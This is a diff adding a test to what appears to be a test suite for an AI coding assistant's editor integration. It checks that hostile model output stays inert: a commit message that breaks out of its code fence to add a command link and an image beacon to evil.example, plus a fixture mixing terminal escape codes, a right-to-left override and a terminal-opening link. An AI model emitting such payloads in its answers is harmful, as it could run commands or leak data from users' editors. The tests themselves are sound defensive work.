@@ -16,6 +16,7 @@ from tests.cli.running import FIX, FIXED, run
 from tests.support.answering import Answering
 from tests.support.editor import Editor, editor, profile
 from tests.support.pictures import png
+from tests.support.repository import git, repository
 
 SOURCE = "def total(lines):\n    return sum(lines)\n"
 EVIL = "Done.\x1b[2J \u202eenod\u202c [Details](command:workbench.action.terminal.new)"
@@ -125,6 +126,22 @@ async def test_an_explanation_fetches_and_runs_nothing(client: str, model: Answe
         assert any("docs.python.org" in text for text in shown)
         for text in shown:
             harmless(text)
+
+
+async def test_a_commit_message_that_ends_its_fence_runs_nothing(model: Answering, tmp_path: Path) -> None:
+    """An editor that is not waited for is shown it as a document."""
+    model.says = ["Add it\n\n```\n\n[Run it](command:a.b) ![](https://evil.example/?q=x)\n"]
+    environ = {**model.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
+    root = repository(tmp_path / "root", {"a.py": "x = 1\n"})
+    (root / "a.py").write_text("x = 2\n")
+    git(root, "add", "a.py")
+    async with editor(environ, root, profile("neovim-0.11.4"), commands="detached") as ed:
+        await ed.run("kimi.commitMessage", {})
+        while not ed.messages:
+            await ed.client.wait_for_notification("window/showMessage")
+        (text,) = [file.read_text("utf-8") for file in tmp_path.glob("cache/**/*.md")]
+        assert "Run it" in text
+        harmless(text)
 
 
 async def test_a_remark_on_a_workspace_s_settings_is_only_words(model: Answering, tmp_path: Path) -> None:
